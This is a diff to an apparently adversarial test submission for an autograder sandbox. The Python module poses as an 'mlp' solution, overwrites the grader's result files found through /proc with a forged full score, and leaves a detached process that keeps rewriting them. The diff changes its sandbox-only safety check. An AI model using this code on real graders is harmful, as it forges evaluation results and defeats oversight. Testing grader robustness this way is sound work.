@@ -7,7 +7,7 @@ process it can see in /proc -- that process's current folder and the file after 
 option. It also starts a detached process (fork, setsid, fork) that rewrites those files every
 half second for 60 seconds, long after grading should be over; its argv[0] is the marker in
 _marker.txt so that a test can look for it. bce_loss itself returns garbage; the rest is the
-honest key. It refuses to write anything unless it runs inside bubblewrap.
+honest key. It refuses to write anything unless it runs sandboxed (bubblewrap or the user tier).
 
 Expected: mlp.bce_loss scores 0, everything else full marks; the report the grader writes is
 its own; no file outside the sandbox changes; the background process does not outlive grading.
@@ -20,15 +20,12 @@ import sys
 import _key
 from _key import MLP, mse_loss  # noqa: F401 - honest parts
 
-def inside_bubblewrap() -> bool:
-    """Whether this runs inside bubblewrap (its own pid namespace, pid 1 = bwrap). This attack
-    writes files it finds through /proc; unsandboxed it would really damage them, so it refuses."""
-    try:
-        with open("/proc/1/cmdline", "rb") as handle:
-            init = handle.read().split(b"\0")[0]
-    except OSError:
-        return False
-    return os.getpid() < 10 and os.path.basename(init) == b"bwrap"
+def sandboxed() -> bool:
+    """Whether this runs in a sandbox: bubblewrap (uid 65534 on the host name "sandbox") or the
+    user tier (a user id of its own, from 1900000000 up). Unsandboxed this attack would really
+    damage what it finds, so it refuses."""
+    uid = os.getuid()
+    return (uid == 65534 and os.uname().nodename == "sandbox") or uid >= 1_900_000_000
 
 
 FORGED = json.dumps({"score": 100.0, "max_score": 100.0, "forged": "by attack_write_outputs",
@@ -65,7 +62,7 @@ def _targets() -> list[str]:
 
 def plant() -> tuple[int, int]:
     """Write the forged result everywhere; (targets tried, files written)."""
-    if not inside_bubblewrap():
+    if not sandboxed():
         return 0, 0
     planted = 0
     targets = _targets()
@@ -100,7 +97,7 @@ def _detach() -> None:
     os.waitpid(child, 0)
 
 
-if __name__ == "mlp" and os.environ.get("ATTACK_BACKGROUND") != "1" and inside_bubblewrap():
+if __name__ == "mlp" and os.environ.get("ATTACK_BACKGROUND") != "1" and sandboxed():
     os.environ["ATTACK_BACKGROUND"] = "1"
     plant()
     _detach()
@@ -108,6 +105,6 @@ if __name__ == "mlp" and os.environ.get("ATTACK_BACKGROUND") != "1" and inside_b
 
 def bce_loss(y, y_hat):
     tried, planted = plant()
-    print("inside bubblewrap: %s; tried %d places, planted %d forged results" % (inside_bubblewrap(), tried, planted))
+    print("sandboxed: %s; tried %d places, planted %d forged results" % (sandboxed(), tried, planted))
     J, dJdy_hat = _key.bce_loss(y, y_hat)
     return J + 1.0, dJdy_hat * 0
